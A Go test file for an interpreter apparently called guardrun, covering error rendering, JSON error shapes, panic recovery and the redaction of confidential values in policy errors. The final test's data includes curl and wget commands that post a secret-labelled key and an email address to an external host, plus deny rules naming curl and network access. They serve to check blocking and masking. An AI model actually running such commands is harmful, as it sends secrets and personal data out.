package guardrun

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/guardrun/guardrun/ast"
	"github.com/guardrun/guardrun/grammar"
	"github.com/guardrun/guardrun/interp"
)

func TestErrorString(t *testing.T) {
	e := &Error{Message: "boom", Pos: ast.Pos{File: "a.md", Line: 3, Col: 7}}
	require.Equal(t, "a.md:3:7: boom", e.Error())
	require.Equal(t, "a.md: boom", (&Error{Message: "boom", Pos: ast.Pos{File: "a.md"}}).Error())
	require.Equal(t, "boom", (&Error{Message: "boom"}).Error())
}

func TestRenderPutsCaretUnderColumn(t *testing.T) {
	e := &Error{
		Message:    "Variable not found: missing",
		Pos:        ast.Pos{File: "x.md", Line: 2, Col: 7},
		SourceLine: "/show @missing",
		Hint:       "define @missing with /var before using it",
	}
	require.Equal(t, "x.md:2:7: Variable not found: missing\n"+
		"    /show @missing\n"+
		"          ^\n"+
		"hint: define @missing with /var before using it\n", e.Render())

	tabbed := &Error{Message: "m", Pos: ast.Pos{File: "t", Line: 1, Col: 3}, SourceLine: "\t\t@x"}
	require.Equal(t, "t:1:3: m\n    \t\t@x\n    \t\t^\n", tabbed.Render())

	// Column past the end of the line still places the caret.
	long := &Error{Message: "m", Pos: ast.Pos{Line: 1, Col: 4}, SourceLine: "ab"}
	require.Equal(t, "1:4: m\n    ab\n       ^\n", long.Render())

	require.Equal(t, "m\n", (&Error{Message: "m"}).Render())
}

func TestRenderLineKeepsPositionTextAndHintOnOneLine(t *testing.T) {
	e := &Error{
		Message:    "Variable not found: missing",
		Pos:        ast.Pos{File: "x.md", Line: 2, Col: 7},
		SourceLine: "\t  /show @missing  \r\n",
		Hint:       "define @missing\nwith /var before using it",
	}
	require.Equal(t, `x.md:2:7: Variable not found: missing — near "/show @missing"; hint: define @missing with /var before using it`, e.RenderLine())
	require.Equal(t, "m", (&Error{Message: "m"}).RenderLine())
	require.Equal(t, "f:1:1: m", (&Error{Message: "m", Pos: ast.Pos{File: "f", Line: 1, Col: 1}, SourceLine: "  "}).RenderLine())

	// A long line is quoted around the column, marked where it was cut.
	long := strings.Repeat("a", 100) + "BAD" + strings.Repeat("z", 100)
	got := (&Error{Message: "m", Pos: ast.Pos{Line: 1, Col: 101}, SourceLine: long}).RenderLine()
	require.Contains(t, got, `near "…`)
	require.Contains(t, got, "BAD")
	require.Contains(t, got, `…"`)
	require.NotContains(t, got, "\n")
}

func TestNewErrorFromParseError(t *testing.T) {
	src := []byte("line one\n/var @x = \r\nthree\n")
	pe := &grammar.Error{Pos: ast.Pos{File: "s.md", Line: 2, Col: 10}, Message: "expected a value", Hint: "write a value after ="}
	e := newError(fmt.Errorf("wrapped: %w", pe), source{name: "s.md", src: src})
	require.Equal(t, "ParseError", e.Name)
	require.Equal(t, "expected a value", e.Message)
	require.Equal(t, "write a value after =", e.Hint)
	require.Equal(t, "/var @x = ", e.SourceLine)
	require.True(t, errors.Is(e, pe))
}

func TestNewErrorFromRuntimeErrorInModule(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "mod.mld"), []byte("var @a = 1\nshow @b\n"), 0o644))
	ie := &interp.Error{Kind: interp.KindVariable, Pos: ast.Pos{File: "mod.mld", Line: 2, Col: 6}, Message: "Variable not found: b"}
	e := newError(ie, source{name: "main.md", src: []byte("/import { @a } from \"./mod.mld\"\n"), dir: dir})
	require.Equal(t, "VariableError", e.Name)
	require.Equal(t, "show @b", e.SourceLine)
	require.Equal(t, "mod.mld:2:6: Variable not found: b", e.Error())
}

func TestNewErrorFallbacks(t *testing.T) {
	src := source{name: "f.md"}
	e := newError(context.DeadlineExceeded, src)
	require.Equal(t, "InterruptError", e.Name)
	require.Equal(t, "f.md", e.Pos.File)
	require.Equal(t, "InterpreterError", newError(errors.New("odd"), src).Name)
	require.Equal(t, "odd", newError(errors.New("odd"), src).Message)
	kindless := newError(&interp.Error{Message: "x"}, src)
	require.Equal(t, "InterpreterError", kindless.Name)
	same := &Error{Name: "GuardError"}
	require.Same(t, same, newError(fmt.Errorf("w: %w", same), src))
}

func TestErrorJSON(t *testing.T) {
	e := &Error{Name: "GuardError", Message: "denied", Pos: ast.Pos{File: "a.md", Line: 4, Col: 1},
		GuardName: "@g", Filter: "data:secret", Operation: "show"}
	b, err := json.Marshal(e)
	require.NoError(t, err)
	require.JSONEq(t, `{"name":"GuardError","message":"denied","guardName":"@g","filter":"data:secret",
		"operation":"show","file":"a.md","line":4,"column":1}`, string(b))
	require.Equal(t, "data:secret", e.Fields()["guardFilter"])
	require.NotContains(t, e.Fields(), "reason")
}

func TestModeForName(t *testing.T) {
	require.Equal(t, Strict, ModeForName("a/b.mld"))
	require.Equal(t, Markdown, ModeForName("a/b.md"))
	require.Equal(t, Markdown, ModeForName("a/b.mld.md"))
	require.Equal(t, Markdown, ModeForName("noext"))
}

func TestCompileFileMissing(t *testing.T) {
	_, err := CompileFile(filepath.Join(t.TempDir(), "none.md"))
	var e *Error
	require.ErrorAs(t, err, &e)
	require.Equal(t, "IOError", e.Name)
	require.NotEmpty(t, e.Hint)
}

func TestPanicErrorIsInternal(t *testing.T) {
	e := panicError("f.md", "kaboom")
	require.True(t, e.Internal())
	require.Equal(t, InternalErrorName, e.Name)
	require.Contains(t, e.Message, "kaboom")
	require.NotContains(t, e.Message, "goroutine", "the stack stays out of the message")
	require.Contains(t, e.Unwrap().Error(), "goroutine", "the stack is kept for developers")
	require.NotEmpty(t, e.Hint)
	require.False(t, (&Error{Name: "VariableError"}).Internal())
	require.False(t, (*Error)(nil).Internal())
}

// setHook replaces a facade test hook for the duration of one test.
func setHook(t *testing.T, hook *func(), f func()) {
	old := *hook
	*hook = f
	t.Cleanup(func() { *hook = old })
}

func TestFacadePanicInCompileIsInternal(t *testing.T) {
	setHook(t, &testHookCompile, func() { panic("compile kaboom") })
	prg, err := Compile("c.mld", []byte("show \"1\"\n"))
	require.Nil(t, prg)
	var e *Error
	require.ErrorAs(t, err, &e)
	require.True(t, e.Internal())
	require.Equal(t, InternalErrorName, e.Name)
	require.Equal(t, "c.mld", e.Pos.File)
	require.Contains(t, e.Message, "compile kaboom")
}

func TestFacadePanicInRunIsInternal(t *testing.T) {
	prg, err := Compile("r.mld", []byte("show \"1\"\n"))
	require.NoError(t, err)
	setHook(t, &testHookRun, func() { panic("run kaboom") })
	res, err := prg.Run(context.Background())
	require.NotNil(t, res, "the Result is never nil")
	var e *Error
	require.ErrorAs(t, err, &e)
	require.Same(t, res.Err, e)
	require.True(t, e.Internal())
	require.Equal(t, InternalErrorName, e.Name)
	require.Contains(t, e.Message, "run kaboom")
	// The JSON shape names it too, so CLI users see what kind of failure it was.
	b, err := json.Marshal(e)
	require.NoError(t, err)
	require.Contains(t, string(b), `"name":"InternalError"`)
}

// Panics recovered by the parser and the evaluator arrive wrapped in their
// positioned errors; the facade reports them all as internal, keeping the
// position and leaving the typed error reachable.
func TestRecoveredPanicsAreInternal(t *testing.T) {
	src := source{name: "s.mld", src: []byte("show \"1\"\nshow \"2\"\n")}
	parserPanic := &grammar.InternalError{Value: "parser kaboom", Stack: []byte("parser stack")}
	evalPanic := &interp.PanicError{Value: "eval kaboom", Stack: []byte("eval stack")}
	for name, tc := range map[string]struct {
		err   error
		value string
		stack string
	}{
		"parser": {&grammar.Error{Pos: ast.Pos{File: "s.mld", Line: 2, Col: 1}, Message: parserPanic.Error(), Cause: parserPanic},
			"parser kaboom", "parser stack"},
		"evaluator": {&interp.Error{Kind: interp.KindUnexpected, Pos: ast.Pos{File: "s.mld", Line: 2, Col: 1}, Message: evalPanic.Error(), Err: evalPanic},
			"eval kaboom", "eval stack"},
		// An imported module whose parse panicked.
		"import": {&interp.Error{Kind: interp.KindImport, Pos: ast.Pos{File: "s.mld", Line: 2, Col: 1}, Message: "import failed",
			Err: &grammar.Error{Pos: ast.Pos{File: "mod.mld", Line: 1, Col: 1}, Message: parserPanic.Error(), Cause: parserPanic}},
			"parser kaboom", "parser stack"},
	} {
		e := newError(tc.err, src)
		require.True(t, e.Internal(), name)
		require.Equal(t, InternalErrorName, e.Name, name)
		require.Contains(t, e.Message, tc.value, name)
		require.Equal(t, 2, e.Pos.Line, name)
		require.Equal(t, "show \"2\"", e.SourceLine, name)
		require.Contains(t, e.Unwrap().Error(), tc.stack, name)
		require.ErrorIs(t, e, tc.err, name)
	}
	plain := newError(&interp.Error{Kind: interp.KindVariable, Message: "Variable not found: x"}, src)
	require.False(t, plain.Internal())
}

// A panic inside the evaluator, here in an embedder's writer, comes back
// from Run as an internal error rather than taking the process down.
func TestEvaluatorPanicIsInternal(t *testing.T) {
	prg, err := Compile("w.mld", []byte("show \"1\"\nlog \"x\"\n"))
	require.NoError(t, err)
	res, err := prg.Run(context.Background(), WithStderr(panicWriter{}))
	var e *Error
	require.ErrorAs(t, err, &e)
	require.True(t, e.Internal(), "%v", e)
	require.Equal(t, InternalErrorName, e.Name)
	require.Equal(t, 2, e.Pos.Line, "position of the directive that was running")
	var pe *interp.PanicError
	require.ErrorAs(t, err, &pe)
	require.Equal(t, "writer kaboom", pe.Value)
	require.Equal(t, "1\n", res.Document, "output before the panic is kept")
}

type panicWriter struct{}

func (panicWriter) Write([]byte) (int, error) { panic("writer kaboom") }

// TestPolicyErrorsMaskConfidentialValues: a policy error, its JSON and the
// explanations quote the command without the labelled values in it.
func TestPolicyErrorsMaskConfidentialValues(t *testing.T) {
	cases := []struct{ name, src, secret string }{
		{"secret argument", `policy @p = { deny: { cmd: ["curl"] } }
var secret @key = "sk-live-42"
run cmd { curl -d @key https://example.invalid }`, "sk-live-42"},
		{"pii in an exe body", `policy @p = { deny: { network: true } }
var pii @mail = "alice@example.com"
exe @send(m) = cmd { wget --post-data=@m https://example.invalid }
show @send(@mail)`, "alice@example.com"},
		{"value as the command", `policy @p = { allow: ["cmd:echo:*"] }
var sensitive @tool = "internal-tool-xyz"
run cmd { @tool --flag }`, "internal-tool-xyz"},
		{"label the policy names", `policy @p = { deny: { cmd: ["curl"] }, labels: { customer: { deny: ["op:show"] } } }
var customer @acct = "acct-998877"
run cmd { curl -d @acct https://example.invalid }`, "acct-998877"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			prg, err := Compile("leak.mld", []byte(c.src+"\n"))
			require.NoError(t, err)
			var explained []string
			_, err = prg.Run(context.Background(), WithDir(t.TempDir()), WithExplain(func(x Explanation) {
				explained = append(explained, fmt.Sprintf("%+v", x))
			}))
			var ge *Error
			require.ErrorAs(t, err, &ge)
			require.Equal(t, "PolicyError", ge.Name)
			js, jerr := json.Marshal(ge)
			require.NoError(t, jerr)
			require.NotEmpty(t, explained)
			for _, out := range append([]string{ge.Render(), string(js), fmt.Sprint(ge.Fields())}, explained...) {
				require.NotContains(t, out, c.secret)
			}
			require.Contains(t, ge.Render(), "[REDACTED]")
		})
	}

	// Unlabelled values are quoted as they are.
	prg, err := Compile("plain.mld", []byte("policy @p = { deny: { cmd: [\"curl\"] } }\nvar @u = \"public-value\"\nrun cmd { curl -d @u x }\n"))
	require.NoError(t, err)
	_, err = prg.Run(context.Background(), WithDir(t.TempDir()))
	require.ErrorContains(t, err, "Command: curl -d public-value x")
}
